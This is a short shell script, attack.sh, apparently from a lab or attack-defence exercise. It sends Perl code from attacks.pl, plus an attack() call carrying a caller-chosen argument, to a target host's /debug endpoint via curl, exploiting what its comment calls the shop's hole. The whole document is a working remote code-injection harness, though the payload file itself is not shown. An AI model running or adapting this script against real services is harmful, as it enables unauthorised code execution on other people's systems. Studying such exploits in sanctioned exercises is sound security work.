# attack.sh CONTAINER ATTACK: uses the hole of the shop in the container.
{ cat attacks.pl; echo "attack('$2');"; } | curl -s -m 60 --data-binary @- http://$(cat $1.ip)/debug
